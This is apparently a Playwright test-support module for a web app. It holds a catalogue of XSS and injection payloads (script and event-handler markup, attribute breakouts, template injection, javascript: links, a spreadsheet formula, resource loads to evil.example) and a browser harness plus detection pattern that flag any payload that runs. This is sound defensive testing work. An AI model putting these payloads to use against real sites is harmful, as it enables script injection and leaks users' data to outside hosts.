"""Texts that try to become markup, and a real browser that tells when one did.

Each payload shows that it ran in one way: it sets `owned`, opens a dialog, or asks evil.example for something. The
others only lie in wait; all of them leave elements or attributes that no page of ours has.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any, Literal

from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, Route

Sign = Literal["owned", "dialog", "asks", ""]


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and how it shows that it ran; `is_held` says that our policy stops it even as markup."""

    text: str
    sign: Sign = "owned"
    is_held: bool = True


PAYLOADS = (
    Payload("<script>owned=1</script>"),
    Payload("<img data-evil src=x onerror=owned=1>"),
    Payload("<svg data-evil onload=owned=1>"),
    Payload("<svg data-evil><script>owned=1</script></svg>"),
    Payload("</pre></p></textarea></title></style></script><script>owned=1</script>"),
    Payload("--><script>owned=1</script><!--"),
    Payload('<iframe srcdoc="<script>parent.owned=1</script>"></iframe>'),
    Payload('<iframe src="javascript:parent.owned=1"></iframe>'),
    Payload("<details data-evil open ontoggle=owned=1>x</details>"),
    Payload("<input data-evil autofocus onfocus=owned=1>"),
    Payload("<video><source data-evil onerror=owned=1></video>"),
    Payload(
        "<style>@keyframes k{to{opacity:.9}}</style><b data-evil style='animation:k 1ms' onanimationend=owned=1>b</b>"
    ),
    Payload("<script>alert(1)</script>", "dialog"),
    Payload("<img data-evil src=x onerror=confirm(1)>", "dialog"),
    Payload("<img data-evil src=http://evil.example/i>", "asks"),
    Payload("<link data-evil rel=stylesheet href=http://evil.example/l>", "asks"),
    Payload("<style>@import 'http://evil.example/s';</style>", "asks"),
    Payload("<b data-evil style='background:url(http://evil.example/b)'>b</b>", "asks"),
    Payload("<script src=http://evil.example/s.js></script>", "asks"),
    Payload("<object data=http://evil.example/o></object>", "asks"),
    Payload("<iframe src=http://evil.example/f></iframe>", "asks"),
    Payload("<base href=http://evil.example/><img data-evil src=r>", "asks"),
    Payload("<meta http-equiv=refresh content='0;url=http://evil.example/m'>", "asks", is_held=False),
    Payload('" autofocus onfocus="owned=1" data-evil="', ""),
    Payload("' onmouseover='owned=1' data-evil='", ""),
    Payload('"><img data-evil src=x onerror=owned=1>', ""),
    Payload("'};owned=1;//\u2028owned=1//", ""),
    Payload("</script><script>owned=1</script>", ""),
    Payload("{{ 7*7 }}{% raw %}${7*7}{{constructor.constructor('owned=1')()}}", ""),
    Payload("[x](javascript:owned=1) ![x](http://evil.example/md) <javascript:owned=1>", ""),
    Payload("javascript:owned=1", ""),
    Payload("&lt;img data-evil src=x onerror=owned=1&gt; &#60;script&#62;owned=1&#60;/script&#62;", ""),
    Payload("<form data-evil action=http://evil.example/><button>Continue</button></form>", ""),
    Payload("<a data-evil href=http://evil.example/>Sign in again</a>", ""),
    Payload('=HYPERLINK("http://evil.example/","open")', ""),
    Payload("\u202egnp.exe\u2066 <math><mtext><img data-evil src=x onerror=owned=1>", ""),
)

#: Elements and attributes that only markup of somebody else's brings.
STRANGE = """() => [...document.querySelectorAll("*")].filter((one) =>
  [...one.attributes].some((it) => it.name === "data-evil" || it.name.startsWith("on")
    || /^\\s*javascript:/i.test(it.value) && ["href", "src", "action"].includes(it.name))
  || ["IFRAME", "OBJECT", "EMBED", "BASE", "MATH", "VIDEO"].includes(one.tagName)
  || one.tagName === "SCRIPT" && !one.src).map((one) => one.outerHTML.slice(0, 200))"""


@dataclass
class Marks:
    """Gives each place a text of its own: a mark by which it is found again, and the next payload."""

    given: set[str] = field(default_factory=set)

    def text(self) -> str:
        """Return the next text."""
        return self._next([one.text for one in PAYLOADS])

    def name(self) -> str:
        """Return the next text that may be a person's name: short, and without what cannot be seen."""
        return self._next([one.text for one in PAYLOADS if len(one.text) <= 70 and one.text.isprintable()])

    def _next(self, texts: Sequence[str]) -> str:
        number = len(self.given)
        mark = f"mark{number:03d}m"
        self.given.add(mark)
        return f"{mark} {texts[number % len(texts)]}"


def marks_in(text: str) -> set[str]:
    """Return the marks that a text holds."""
    return set(re.findall(r"mark\d{3}m", text))


@dataclass
class Watched:
    """A browser's window, and what happened in it that must not: dialogs, foreign requests, complaints.

    `asked` are foreign requests that a page made, also those that a policy stopped; `reached` are those that left.
    """

    context: BrowserContext
    page: Page
    homes: tuple[str, ...]
    dialogs: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    reached: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    @property
    def incidents(self) -> list[str]:
        """Return all of it, and what is strange in the page that is open."""
        found: list[str] = self.page.evaluate(STRANGE)
        is_owned = self.page.evaluate("'owned' in window")
        return [*self.dialogs, *self.asked, *self.complaints, *found, *(["owned"] if is_owned else [])]

    def forget(self) -> None:
        """Begin anew."""
        for one in (self.dialogs, self.asked, self.reached, self.complaints):
            one.clear()


@contextmanager
def watched(browser: Browser, *homes: str, **options: Any) -> Iterator[Watched]:
    """Open a window in which nothing but `homes` may be asked for anything."""
    context = browser.new_context(**options)
    context.set_default_timeout(10_000)
    page = context.new_page()
    made = Watched(context, page, homes)

    def reach(route: Route) -> None:
        made.reached.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^https?://evil\.example"), reach)

    def dialog(shown: Dialog) -> None:
        made.dialogs.append(shown.message)
        shown.dismiss()

    def request(sent: Request) -> None:
        if not sent.url.startswith((*homes, "data:,", "about:")):
            made.asked.append(sent.url)

    page.on("dialog", dialog)
    context.on("request", request)
    page.on("pageerror", lambda error: made.complaints.append(str(error)))
    page.on("console", lambda said: made.complaints.append(said.text) if said.type == "error" else None)
    yield made
    context.close()
